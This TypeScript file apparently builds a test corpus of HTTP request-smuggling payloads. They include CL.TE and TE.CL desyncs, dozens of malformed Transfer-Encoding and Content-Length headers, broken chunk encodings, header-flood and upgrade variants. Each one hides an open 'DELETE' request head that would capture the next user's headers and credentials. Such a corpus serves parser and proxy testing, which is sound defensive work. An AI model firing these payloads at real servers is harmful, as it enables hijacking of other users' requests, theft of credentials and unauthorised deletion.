import { METHODS } from 'node:http';

/*
 * Requests about which two HTTP parsers could disagree. Each carries, where one of the readings
 * ends, the head of a second request that is left open: whatever request follows on the same
 * connection between two servers would lend it its own headers, credentials among them.
 */

/** Targets of the open head and of the corpus' own requests. */
export interface Aim {
  /** The path that the corpus's requests ask for. */
  readonly own: string;
  /** The path that the smuggled head would delete. */
  readonly victim: string;
}

export interface Smuggling {
  readonly name: string;
  readonly bytes: Buffer;
  /**
   * `plain`: every parser reads it alike, so it may be served; `late`: only its body is odd, so it
   * may be refused for want of credentials as well.
   */
  readonly kind: 'odd' | 'plain' | 'late';
}

const openHead = ({ victim }: Aim): string => `DELETE ${victim} HTTP/1.1\r\nX-Lend: `;

const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;

const show = (text: string): string => JSON.stringify(text);

/** Headers that announce chunks to some parsers and not to others. */
const ENCODINGS = [
  ...[
    'Transfer-Encoding: chunked',
    'Transfer-Encoding:\tchunked',
    'Transfer-Encoding: \x0bchunked',
  ],
  ...['Transfer-Encoding : chunked', 'Transfer-Encoding: xchunked', 'Transfer-Encoding: "chunked"'],
  ...['Transfer-Encoding: chunked, identity', 'Transfer-Encoding: identity, chunked'],
  ...['Transfer-Encoding: , chunked', 'Transfer-Encoding: gzip, chunked', 'Transfer-Encoding:'],
  ...[
    'Transfer-Encoding: chunked;q=1',
    'Transfer-Encoding: identity',
    'Transfer-Encoding: CHUNKED',
  ],
  ...['Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked', 'Transfer_Encoding: chunked'],
  ...['Transfer-Encoding: x\r\nTransfer-Encoding: chunked', 'X: x\nTransfer-Encoding: chunked'],
  ...['X: x\rTransfer-Encoding: chunked', 'X: x\r\n Transfer-Encoding: chunked'],
  ...[
    'Transfer-Encoding:\r\n chunked',
    'Transfer-Encoding\r\n: chunked',
    'Transfer-Encoding chunked',
  ],
  ...['X: x\0\r\nTransfer-Encoding: chunked', 'Connection: Transfer-Encoding\r\nTE: chunked'],
  ...['Content-Encoding: chunked', '\tTransfer-Encoding: chunked', ' X: x'],
];

/** `L` stands for a length: the whole of what follows, or none of it. */
const LENGTHS = [
  ...['Content-Length: +L', 'Content-Length: -L', 'Content-Length: 0xL', 'Content-Length: 0L'],
  ...['Content-Length: L, L', 'Content-Length: L\r\nContent-Length: L', 'Content-Length : L'],
  ...['Content-Length: L\r\nContent-Length: 0', 'Content-Length: 0\r\nContent-Length: L'],
  ...['Content-Length: L.0', 'Content-Length: Le0', 'Content-Length: "L"', 'Content-Length: L L'],
  ...['Content-Length: 18446744073709551616', 'Content-Length:', 'Content-Length:\r\n L'],
  ...[
    'X: x\nContent-Length: L',
    'Content-Length: L\nX: x',
    'Content-Length\0: L',
    'Content-Length L',
  ],
  ...['Content_Length: L', 'Content-Length: 9999999999999999', 'Content-Length: \x0bL'],
];

const BROKEN_CHUNKS = [
  ...['0x5\r\nhello\r\n0\r\n\r\n', '-5\r\nhello\r\n0\r\n\r\n', '5 \r\nhello\r\n0\r\n\r\n'],
  ...['5\nhello\n0\n\n', '5\r\nhello0\r\n\r\n', '10000000000000005\r\nhello\r\n0\r\n\r\n'],
  ...['5;a\nb\r\nhello\r\n0\r\n\r\n', '5\r\r\nhello\r\n0\r\n\r\n', '\r\n5\r\nhello\r\n0\r\n\r\n'],
  ...[
    '0\r\nContent-Length: 9\r\n\r\n',
    '0\r\nTransfer-Encoding: chunked\r\n\r\n',
    '+5\r\nhello\r\n',
  ],
  ...[
    '0\r\n X: folded\r\n\r\n',
    '5\r\nhello\r\n0\n\n',
    '5\r\nhelloworld\r\n0\r\n\r\n',
    'g\r\n\r\n',
  ],
];

const METHODS_WITHOUT_BODY = METHODS.filter(
  (method) => !['CONNECT', 'PATCH', 'POST', 'PUT'].includes(method),
);

/** The corpus, without credentials. */
export function smugglingCorpus(aim: Aim): Smuggling[] {
  const { own } = aim;
  const open = openHead(aim);
  const all: Smuggling[] = [];
  const add = (name: string, method: string, lines: string, body: string): void => {
    const head = `${method} ${own} HTTP/1.1\r\nHost: test\r\n`;
    const bytes = Buffer.from(`${head}${lines}\r\n${body}`, 'latin1');
    const isPlain =
      /_(?:Length|Encoding)|Content-Encoding|TE: chunked/u.test(lines) &&
      (method === 'PUT' || !lines.includes('Content-Length'));
    const isLate = name.startsWith('chunks ');
    all.push({ name, bytes, kind: isPlain ? 'plain' : isLate ? 'late' : 'odd' });
  };

  for (const method of METHODS_WITHOUT_BODY) {
    add(
      `${method} with chunks`,
      method,
      'Transfer-Encoding: chunked\r\n',
      `${chunk(open)}0\r\n\r\n`,
    );
    add(`${method} with a length`, method, `Content-Length: ${open.length}\r\n`, open);
  }
  for (const method of ['PUT', 'GET']) {
    for (const encoding of ENCODINGS) {
      // CL.TE and TE.CL: one parser goes by the length, the other by the chunks.
      const short = `${encoding}\r\nContent-Length: 4\r\n`;
      add(`${method}, TE.CL: ${show(encoding)}`, method, short, `${chunk(open)}0\r\n\r\n`);
      const whole = `0\r\n\r\n${open}`;
      const long = `Content-Length: ${whole.length}\r\n${encoding}\r\n`;
      add(`${method}, CL.TE: ${show(encoding)}`, method, long, whole);
    }
    for (const length of LENGTHS) {
      const lines = length.replaceAll('L', (_, at: number) =>
        length.slice(at).startsWith('Length') ? 'L' : String(open.length),
      );
      add(`${method}: ${show(length)}`, method, `${lines}\r\n`, open);
    }
  }
  for (const chunks of BROKEN_CHUNKS) {
    add(`chunks ${show(chunks)}`, 'PUT', 'Transfer-Encoding: chunked\r\n', `${chunks}${open}`);
  }
  // More headers than Node shows by default: the one that counts is the last.
  const many = 'a:\r\n'.repeat(1100);
  add(
    'a hidden encoding',
    'GET',
    `${many}Transfer-Encoding: chunked\r\n`,
    `${chunk(open)}0\r\n\r\n`,
  );
  add('a hidden length', 'GET', `${many}Content-Length: ${open.length}\r\n`, open);
  const upgrade = 'Connection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\nUpgrade: ';
  for (const to of ['h2c', 'websocket', 'TLS/1.0', 'HTTP/1.1']) {
    add(`an upgrade to ${to}`, 'GET', `${upgrade}${to}\r\n`, open);
    const lines = `${upgrade}${to}\r\nContent-Length: ${open.length}\r\n`;
    add(`an upgrade to ${to} with a body`, 'PUT', lines, open);
  }
  add('two hosts', 'GET', 'Host: other\r\n', open);
  add('an unknown expectation', 'PUT', `Expect: x\r\nContent-Length: ${open.length}\r\n`, open);
  for (const first of [
    `GET ${own}\r\n\r\n`,
    `GET ${own} HTTP/0.9\r\n\r\n`,
    `GET ${own} HTTP/1.1\nHost: test\n\n`,
    `PUT ${own} HTTP/1.0\r\nHost: test\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n${chunk(open)}0\r\n\r\n`,
    `CONNECT ${own} HTTP/1.1\r\nHost: test\r\nContent-Length: ${open.length}\r\n\r\n`,
    'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    `GET ${own} HTTP/1.1\r\n Host: test\r\nX: x\r\n\r\n`,
  ]) {
    const bytes = Buffer.from(`${first}${open}`, 'latin1');
    all.push({ name: show(first), bytes, kind: 'odd' });
  }
  return all;
}
